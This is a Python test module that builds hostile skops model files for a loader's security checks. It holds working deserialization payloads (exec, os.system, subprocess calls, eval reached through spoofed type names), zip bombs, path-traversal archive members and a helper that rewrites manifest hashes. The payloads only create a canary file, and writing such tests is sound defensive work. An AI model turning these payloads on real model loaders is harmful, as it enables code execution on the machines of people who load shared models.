"""Hostile model files, written by hand: skops schema nodes and zip archives.

Each payload would create ``canary`` if it ran. The builders write ``schema.json`` and the
zip themselves (as an attacker would), and :func:`plant` puts the file into a bundle whose
manifest is rewritten to match, so the file reaches the model-file checks (the attacker
controls the whole directory).
"""

from __future__ import annotations

import hashlib
import io
import json
import operator
import struct
import zipfile
from collections.abc import Callable
from functools import partial
from pathlib import Path
from typing import Any

import numpy as np

PROTOCOL = 2

Node = dict[str, Any]


# --- nodes ---------------------------------------------------------------------------------


def js(value: Any) -> Node:
    return {
        "__class__": "str",
        "__module__": "builtins",
        "__loader__": "JsonNode",
        "content": json.dumps(value),
        "is_json": True,
    }


def tup(*items: Node) -> Node:
    return {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode",
            "content": list(items)}  # fmt: skip


def lst(*items: Node) -> Node:
    return {"__class__": "list", "__module__": "builtins", "__loader__": "ListNode",
            "content": list(items)}  # fmt: skip


def typ(module: str, cls: str) -> Node:
    return {"__class__": cls, "__module__": module, "__loader__": "TypeNode"}


def dct(content: dict[str, Node]) -> Node:
    return {
        "__class__": "dict",
        "__module__": "builtins",
        "__loader__": "DictNode",
        "content": content,
        "key_types": lst(*[typ("builtins", "str") for _ in content]),
    }


def func(module: str, name: str) -> Node:
    return {"__class__": name, "__module__": module, "__loader__": "FunctionNode"}


def ctor(module: str, cls: str, *args: Node) -> Node:
    """ConstructorFromReduceNode: skops calls ``module.cls(*args)`` while building."""
    return {"__class__": cls, "__module__": module, "__loader__": "ConstructorFromReduceNode",
            "content": tup(*args)}  # fmt: skip


def method(obj: Node, name: str) -> Node:
    return {
        "__class__": obj["__class__"],
        "__module__": obj["__module__"],
        "__loader__": "MethodNode",
        "content": {"func": name, "obj": obj},
    }


def part(fn: Node, *args: Node) -> Node:
    return {
        "__class__": "partial",
        "__module__": "functools",
        "__loader__": "PartialNode",
        "content": {"func": fn, "args": tup(*args), "kwds": dct({}), "namespace": js(None)},
    }


def methodcaller(name: str, *args: Any) -> Node:
    return {
        "__class__": "methodcaller",
        "__module__": "operator",
        "__loader__": "OperatorFuncNode",
        "attrs": tup(js(name), *[js(a) for a in args]),
    }


def obj(module: str, cls: str, attrs: dict[str, Node]) -> Node:
    return {"__class__": cls, "__module__": module, "__loader__": "ObjectNode",
            "content": dct(attrs)}  # fmt: skip


def function_transformer(fn: Node) -> Node:
    """A FunctionTransformer (trusted by skops) whose ``func`` is the payload."""
    return obj(
        "sklearn.preprocessing._function_transformer",
        "FunctionTransformer",
        {"func": fn, "validate": js(False), "accept_sparse": js(False), "kw_args": js(None)},
    )


def schema(root: Node, protocol: int = PROTOCOL) -> dict[str, Any]:
    return {**root, "protocol": protocol, "_skops_version": "0.16.0"}


# --- archives ------------------------------------------------------------------------------


def zip_bytes(
    members: dict[str, bytes], *, compression: int = zipfile.ZIP_STORED, level: int | None = None
) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=compression, compresslevel=level) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


def skops_file(tree: dict[str, Any], extra: dict[str, bytes] | None = None) -> bytes:
    return zip_bytes({"schema.json": json.dumps(tree).encode(), **(extra or {})})


def npy(array: np.ndarray[Any, Any]) -> bytes:
    buf = io.BytesIO()
    np.save(buf, array, allow_pickle=False)
    return buf.getvalue()


def deflate_bomb(uncompressed: int, name: str = "0.npy") -> bytes:
    """A zip whose one member inflates to ``uncompressed`` zero bytes, written in chunks."""
    buf = io.BytesIO()
    chunk = b"\0" * (1 << 20)
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        zf.writestr("schema.json", json.dumps(schema(js(1))))
        with zf.open(name, "w", force_zip64=True) as fh:
            for _ in range(uncompressed // len(chunk)):
                fh.write(chunk)
    return buf.getvalue()


def lying_size(data: bytes, member: str, declared: int) -> bytes:
    """Rewrite ``member``'s uncompressed size in both zip headers to ``declared``."""
    out = bytearray(data)
    name = member.encode()
    # local file header: signature, ..., uncompressed size at offset 22
    i = out.find(b"PK\x03\x04" + b"")
    while i != -1:
        n = struct.unpack_from("<H", out, i + 26)[0]
        if bytes(out[i + 30 : i + 30 + n]) == name:
            struct.pack_into("<I", out, i + 22, declared)
        i = out.find(b"PK\x03\x04", i + 4)
    j = out.find(b"PK\x01\x02")
    while j != -1:
        n = struct.unpack_from("<H", out, j + 28)[0]
        if bytes(out[j + 46 : j + 46 + n]) == name:
            struct.pack_into("<I", out, j + 24, declared)
        j = out.find(b"PK\x01\x02", j + 4)
    return bytes(out)


# --- the payloads --------------------------------------------------------------------------


def _write(canary: Path) -> str:
    return f"open({str(canary)!r}, 'w').write('pwned')"


def payloads(canary: Path) -> dict[str, Callable[[], bytes]]:
    """Crafted model files by name; each would create ``canary`` if its payload ran."""
    code = _write(canary)
    shell = f"touch {canary}"
    spoof_np = typ("xgboost.sklearn", "np")  # getattr(xgboost.sklearn, "np"): numpy itself
    booster = obj("xgboost.core", "Booster", {})
    files: dict[str, Callable[[], bytes]] = {
        # Code run while skops builds the object.
        "ctor_builtins_exec": lambda: skops_file(schema(ctor("builtins", "exec", js(code)))),
        "ctor_os_system": lambda: skops_file(schema(ctor("os", "system", js(shell)))),
        "ctor_subprocess": lambda: skops_file(
            schema(ctor("subprocess", "check_call", js(["touch", str(canary)])))
        ),
        "ctor_numpy_savetxt": lambda: skops_file(
            schema(ctor("numpy", "savetxt", js(str(canary)), js([[1.0, 2.0]])))
        ),
        "ctor_numpy_save": lambda: skops_file(
            schema(ctor("numpy", "save", js(str(canary)), js([1, 2])))
        ),
        # LossNode calls the class the file names.
        "loss_node_os_system": lambda: skops_file(
            schema(
                {
                    "__class__": "system",
                    "__module__": "os",
                    "__loader__": "LossNode",
                    "__reduce__": {"args": tup(js(shell))},
                    "content": dct({}),
                }
            )
        ),
        # Type-name spoofing: a node labelled with an allowed prefix that is a module.
        "spoofed_module_typenode": lambda: skops_file(schema(method(spoof_np, "savetxt"))),
        "spoofed_method_chain_to_eval": lambda: skops_file(
            schema(
                function_transformer(
                    part(
                        method(
                            method(typ("xgboost.sklearn", "XGBModel"), "__init__"), "__builtins__"
                        ),
                        js(code),
                    )
                )
            )
        ),
        # The joined name equals an allowed one, the (module, class) pair does not.
        "joined_name_spoof": lambda: skops_file(
            schema(obj("xgboost", "sklearn.XGBClassifier", {}))
        ),
        "spoofed_xgb_label_on_ctor": lambda: skops_file(
            schema(ctor("xgboost.sklearn", "np", js(code)))
        ),
        # Functions a trusted transformer would call on the rows it scores.
        "function_builtins_eval": lambda: skops_file(
            schema(function_transformer(func("builtins", "eval")))
        ),
        "function_builtins_exec": lambda: skops_file(
            schema(function_transformer(func("builtins", "exec")))
        ),
        "function_os_system": lambda: skops_file(
            schema(function_transformer(func("os", "system")))
        ),
        "function_numpy_savetxt": lambda: skops_file(
            schema(function_transformer(part(func("numpy", "savetxt"), js(str(canary)))))
        ),
        "partial_exec": lambda: skops_file(
            schema(function_transformer(part(typ("builtins", "exec"), js(code), dct({}))))
        ),
        "operator_methodcaller_to_csv": lambda: skops_file(
            schema(function_transformer(methodcaller("to_csv", str(canary))))
        ),
        "ndarray_tofile_method": lambda: skops_file(
            schema(
                function_transformer(
                    method(
                        {
                            "__class__": "ndarray",
                            "__module__": "numpy",
                            "__loader__": "NdArrayNode",
                            "type": "numpy",
                            "file": "a.npy",
                        },
                        "tofile",
                    )
                )
            ),
            {"a.npy": npy(np.zeros(2))},
        ),
        "booster_save_model_method": lambda: skops_file(
            schema(function_transformer(method(booster, "save_model")))
        ),
        # NdArrayNode calls a non-ndarray class on the loaded array.
        "ndarray_class_is_savetxt": lambda: skops_file(
            schema(
                {
                    "__class__": "savetxt",
                    "__module__": "numpy",
                    "__loader__": "NdArrayNode",
                    "type": "numpy",
                    "file": "a.npy",
                }
            ),
            {"a.npy": npy(np.zeros(2))},
        ),
        # DictNode calls the named type with no argument.
        "dict_node_named_breakpoint": lambda: skops_file(
            schema({**dct({}), "__module__": "builtins", "__class__": "breakpoint"})
        ),
        # A payload nested deep inside allowed containers.
        "nested_reduce": lambda: skops_file(
            schema(
                obj(
                    "sklearn.pipeline",
                    "Pipeline",
                    {"steps": lst(tup(js("x"), lst(dct({"a": ctor("os", "system", js(shell))}))))},
                )
            )
        ),
        "random_generator_seed": lambda: skops_file(
            schema(
                {
                    "__class__": "Generator",
                    "__module__": "numpy.random._generator",
                    "__loader__": "RandomGeneratorNode",
                    "content": {
                        "bit_generator": dct({"bit_generator": js("seed")}),
                        "seed_seq": dct({}),
                    },
                }
            )
        ),
        "unknown_loader": lambda: skops_file(
            schema({"__class__": "system", "__module__": "os", "__loader__": "ReduceNode"})
        ),
        "old_protocol": lambda: skops_file(schema(js(1), protocol=0)),
        # Archives.
        "zip_bomb_ratio": lambda: deflate_bomb(64 << 20),
        "path_traversal_member": lambda: skops_file(
            schema(js(1)), {"../../" + canary.name: b"pwned"}
        ),
        "absolute_member": lambda: skops_file(schema(js(1)), {"/tmp/" + canary.name: b"x"}),
        "duplicate_member": lambda: _duplicate(),
        "schema_too_deep": lambda: zip_bytes({"schema.json": ("[" * 70 + "]" * 70).encode()}),
        "schema_recursion_bomb": lambda: zip_bytes(
            {"schema.json": ("[" * 200_000 + "]" * 200_000).encode()}
        ),
        "schema_container_bomb": lambda: zip_bytes(
            {"schema.json": ("[" + ",".join(["[]"] * 2_000_001) + "]").encode()}
        ),
        "schema_size_lie": lambda: lying_size(
            zip_bytes(
                {"schema.json": json.dumps(schema(js("x" * 100_000))).encode()},
                compression=zipfile.ZIP_DEFLATED,
            ),
            "schema.json",
            10,
        ),
        "corrupt_zip": lambda: b"PK\x03\x04" + b"\x00" * 200,
        "not_a_zip": lambda: b"\x80\x04\x95" + b"cos\nsystem\n",
        "no_schema": lambda: zip_bytes({"a.npy": npy(np.zeros(2))}),
    }
    return files


def _duplicate() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("schema.json", json.dumps(schema(js(1))))
        with __import__("warnings").catch_warnings():
            __import__("warnings").simplefilter("ignore")
            zf.writestr("schema.json", json.dumps(schema(ctor("os", "system", js("true")))))
    return buf.getvalue()


#: Payloads that run at skops build time when every type is trusted (proof they are live).
LIVE_AT_BUILD = ("ctor_builtins_exec", "ctor_os_system", "ctor_numpy_savetxt", "ctor_numpy_save",
                 "ctor_subprocess", "loss_node_os_system")  # fmt: skip


# --- bundles -------------------------------------------------------------------------------


def plant(bundle: Path, model_bytes: bytes) -> Path:
    """Replace ``bundle``'s model file and rewrite its manifest to match (no card)."""
    (bundle / "model.skops").write_bytes(model_bytes)
    manifest_path = bundle / "manifest.json"
    manifest = json.loads(manifest_path.read_text())
    manifest["files"]["model.skops"] = {
        "sha256": hashlib.sha256(model_bytes).hexdigest(),
        "size": len(model_bytes),
    }
    manifest_path.write_text(json.dumps(manifest, indent=1))
    return bundle


def rehash(bundle: Path, name: str) -> None:
    """Rewrite the manifest entry of ``name`` after an edit (or drop it if removed)."""
    manifest_path = bundle / "manifest.json"
    manifest = json.loads(manifest_path.read_text())
    path = bundle / name
    if path.exists():
        data = path.read_bytes()
        manifest["files"][name] = {"sha256": hashlib.sha256(data).hexdigest(), "size": len(data)}
    else:
        manifest["files"].pop(name, None)
    manifest_path.write_text(json.dumps(manifest, indent=1))


# Real objects an attacker could also dump with skops itself (used to prove liveness).
def live_pipeline_objects(canary: Path) -> dict[str, Any]:
    return {
        "partial_exec": partial(exec, _write(canary), {}),
        "methodcaller_to_csv": operator.methodcaller("to_csv", str(canary)),
    }
